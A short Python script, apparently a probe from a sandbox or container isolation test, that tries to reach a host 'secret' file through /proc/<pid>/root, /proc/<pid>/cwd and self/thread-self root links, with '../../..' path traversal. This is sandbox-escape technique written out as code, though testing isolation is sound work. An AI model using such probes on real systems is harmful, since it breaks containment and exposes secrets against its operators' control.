"""Look at the host through the roots of processes."""

import glob
import os

from tools import TARGETS, each

roots = [*glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd"), "/proc/self/root", "/proc/thread-self/root"]
each(lambda it=it: os.open(it + "/" + up + TARGETS["secret"], os.O_RDONLY) for it in roots for up in ("", "../../.."))
